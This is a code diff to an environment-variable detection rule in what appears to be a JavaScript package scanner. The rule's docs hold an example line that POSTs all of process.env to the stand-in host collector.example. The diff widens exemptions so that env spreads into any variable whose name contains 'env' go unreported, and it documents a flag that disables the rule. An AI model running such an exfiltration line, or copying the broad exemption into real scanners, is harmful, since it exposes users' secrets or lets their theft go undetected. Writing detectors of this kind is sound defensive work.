@@ -24,7 +24,7 @@ export default defineRule({
     references: ['https://nodejs.org/api/process.html#processenv'],
     docs: {
       example: 'https.request({ host: "collector.example", method: "POST" }).end(JSON.stringify(process.env))',
-      suppress: 'Allow the package version in tollgate.config.json, or set `"rules": { "env-access": "off" }`.',
+      suppress: 'Turn the rule off for a run with `tollgate scan --disable-rule env-access`; its findings then neither show nor count toward the score.',
     },
   },
   create() {
@@ -50,7 +50,9 @@ export default defineRule({
           if (parent?.type !== 'ObjectExpression') return;
           // `{ ...process.env, FOO: 1 }` handed to a child process is how env is normally passed on.
           const holder = parentOf(parent);
-          if (holder?.type === 'ObjectProperty' && holder.key.type === 'Identifier' && holder.key.name === 'env') return;
+          if (holder?.type === 'ObjectProperty' && holder.key.type === 'Identifier' && /^env$/i.test(holder.key.name)) return;
+          if (holder?.type === 'VariableDeclarator' && holder.id.type === 'Identifier' && /env/i.test(holder.id.name)) return;
+          if (holder?.type === 'AssignmentExpression' && holder.left.type === 'MemberExpression' && holder.left.property.type === 'Identifier' && /^env$/i.test(holder.left.property.name)) return;
           ctx.report({ node, message: 'copies every environment variable into an object', severity: 'low', signals: ['source:env-bulk'] });
         },
         MemberExpression(node, ctx) {
